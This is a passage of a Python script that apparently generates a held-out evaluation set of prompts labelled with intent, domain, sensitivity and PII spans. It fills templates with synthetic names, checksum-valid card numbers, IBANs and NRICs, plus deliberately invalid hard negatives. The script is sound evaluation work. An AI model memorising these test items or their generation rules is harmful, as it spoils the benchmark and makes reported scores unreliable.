draft g C | draft a short intro email connecting [[P:Arjun Iyer]] ([[E:arjun@iyerlabs.in]], [[T:+91 98450 12345]]) with our head of design
code s R | write a Python function that validates a Singapore NRIC check letter; test it on [[NRIC:T]]
"""

HARD_MORE = r"""
! extract f | list the refunds with amounts: RF-000812 £42.10 (15/03/2024), RF-000817 £129.99 (18/03/2024), RF-000820 £8.50 (20/03/2024)
! reasoning f M | our payment run failed for [[BADIBAN:GB:s]] - 'invalid check digits'. the supplier swears it's right. what do we do before the 28 June payment deadline?
! translate g | translate into German: "Firmware 5.11.2.40 is required. Update before 01.10.2024 or the device will stop syncing."
! summarize l | summarise: Claim 2024/0917 was lodged on 4 March; defence due 1 April; hearing listed for 16-17 September 2024; costs budget £48,500.
! classify s | classify these alerts by severity: ALRT-99812 port scan from internal host, ALRT-99815 failed VPN login x3, ALRT-99820 malware blocked on email gateway, ALRT-99821 admin group membership change
! sentiment f | what's the tone of this reminder? "Our records show invoice INV-88213 for $2,300.00, due 2024-04-30, remains unpaid. Please settle at your earliest convenience."
! math m | prescription no. 5544-9120-3378-6612 says 2 tablets of 250 mg three times a day for 7 days. how many mg in total?
"""

_BLOCKS = [
    FINANCE,
    LEGAL,
    MEDICAL,
    SECURITY,
    GENERAL,
    MORE,
    PII_ROWS,
    PII_MORE,
    HARD,
    HARD_MORE,
]

_TOKEN = re.compile(r"\[\[([A-Z]+):?(.*?)\]\]")
_LITERAL = {
    "P": "PERSON",
    "E": "EMAIL",
    "T": "PHONE",
    "IP": "IP_ADDRESS",
    "SSN": "US_SSN",
}
_SEP = {"s": " ", "d": "-", "n": ""}


def _card(rng: random.Random, kind: str, sep: str) -> str:
    if kind == "amex":
        num = pv._luhn_complete(rng.choice(["34", "37"]), 15, rng)
        groups = [num[:4], num[4:10], num[10:]]
    else:
        prefix = {"visa": "4", "mc": str(rng.randint(51, 55)), "disc": "6011",
                  "mc2": str(rng.randint(2221, 2720))}[kind]  # fmt: skip
        num = pv._luhn_complete(prefix, 16, rng)
        groups = [num[i : i + 4] for i in range(0, 16, 4)]
    return _SEP[sep].join(groups)


def _bad_card(rng: random.Random, sep: str) -> str:
    num = pv._luhn_complete(rng.choice(["4", "51", "6011"]), 16, rng)
    num = num[:-1] + str((int(num[-1]) + rng.randint(1, 9)) % 10)
    return _SEP[sep].join(num[i : i + 4] for i in range(0, 16, 4))


def _iban(rng: random.Random, country: str, sep: str, valid: bool = True) -> str:
    bban = pv._bban(country, rng)
    check = pv._iban_check(country, bban)
    if not valid:
        check = f"{(int(check) + rng.randint(3, 60)) % 100:02d}"
        if check == pv._iban_check(country, bban):
            check = f"{(int(check) + 7) % 100:02d}"
    compact = country + check + bban
    if sep == "s":
        return " ".join(compact[i : i + 4] for i in range(0, len(compact), 4))
    return compact


def _fill(text: str, rng: random.Random) -> str:
    """``[[...]]`` tokens -> PII marks (or plain hard-negative strings)."""

    def one(m: re.Match[str]) -> str:
        kind, arg = m.group(1), m.group(2)
        if kind in _LITERAL:
            return mark(_LITERAL[kind], arg)
        if kind == "CC":
            card_kind, sep = arg.split(":")
            return mark("CREDIT_CARD", _card(rng, card_kind, sep))
        if kind == "IBAN":
            country, sep = arg.split(":")
            return mark("IBAN", _iban(rng, country, sep))
        if kind == "NRIC":
            digits = "".join(str(rng.randint(0, 9)) for _ in range(7))
            return mark("SG_NRIC", arg + digits + pv.nric_check_letter(arg, digits))
        if kind == "BADCC":
            return _bad_card(rng, arg)
        if kind == "BADIBAN":
            country, sep = arg.split(":")
            return _iban(rng, country, sep, valid=False)
        if kind == "BADNRIC":
            return pv.bad_nric(rng)
        raise ValueError(f"unknown token {m.group(0)}")

    return _TOKEN.sub(one, text)


def _expand(text: str) -> tuple[str, str]:
    """Pasted-material references -> text and the material's sensitivity."""
    sens = "public"
    for name, (body, level) in _MATERIAL.items():
        ref = "{" + name + "}"
        if ref in text:
            text = text.replace(ref, "\n\n" + body)
            sens = max(sens, level, key=_LEVEL.index)
    return text.replace("\\n", "\n"), sens


def _task(spec: str, clause: str, sens: str) -> dict[str, Any]:
    intent, d, *flags = spec.split()
    cx = "medium" if "M" in flags else "high" if "H" in flags else "low"
    tools = ["calculator"] if intent == "math" else []
    for f in flags:
        if f in _SENS:
            sens = max(sens, _SENS[f], key=_LEVEL.index)
        elif f in _TOOLS and _TOOLS[f] not in tools:
            tools.append(_TOOLS[f])
        elif f not in ("M", "H"):
            raise ValueError(f"bad flag {f!r} in {spec!r}")
    return {"text": clause, "intent": intent, "domain": _DOMAIN[d], "complexity": cx,
            "sensitivity": sens, "tools": tools}  # fmt: skip


def rows() -> list[dict[str, Any]]:
    rng = random.Random(20240605)
    out: list[dict[str, Any]] = []

    def add(raw: str, specs: list[tuple[str, str]], hard: bool) -> None:
        text, sens = _expand(raw)
        clean, spans = strip_marks(_fill(text, rng))
        for s in spans:
            s["text"] = clean[s["start"] : s["end"]]
            level = 3 if s["type"] in _PII_LEVEL else 2
            sens = max(sens, _LEVEL[level], key=_LEVEL.index)
        tasks = []
        for spec, clause in specs:
            clause = _TOKEN.sub(lambda m: m.group(2), clause) or clean
            if clause not in clean:
                raise ValueError(f"clause {clause!r} not in {clean!r}")
            tasks.append(_task(spec, clause, sens))
        out.append({"id": f"fresh5-{len(out):05d}", "text": clean, "tasks": tasks,
                    "pii": spans, "hard_negative": hard})  # fmt: skip

    for block in _BLOCKS:
        for line in block.strip().splitlines():
            hard = line.startswith("! ")
            line = line.removeprefix("! ")
            spec, _, raw = line.partition(" | ")
            add(raw.strip(), [(spec.strip(), "")], hard)
    for line in MULTI.strip().splitlines():
        hard = line.startswith("! ")
        line = line.removeprefix("! ")
        specs, _, raw = line.partition(" || ")
        parts = [p.partition(" => ") for p in specs.split(" ;; ")]
        add(raw.strip(), [(s.strip(), c.strip()) for s, _, c in parts], hard)
    return out


def main() -> None:
    data = rows()
    with open(HERE / "fresh5.jsonl", "w", encoding="utf-8") as fh:
        for r in data:
            fh.write(json.dumps(r, ensure_ascii=False) + "\n")
    multi = sum(len(r["tasks"]) > 1 for r in data)
    hard = sum(r["hard_negative"] for r in data)
    print(
        f"fresh5 (HELD OUT): {len(data)} rows, {multi} multi-task, {hard} hard negatives"
    )


if __name__ == "__main__":
    main()
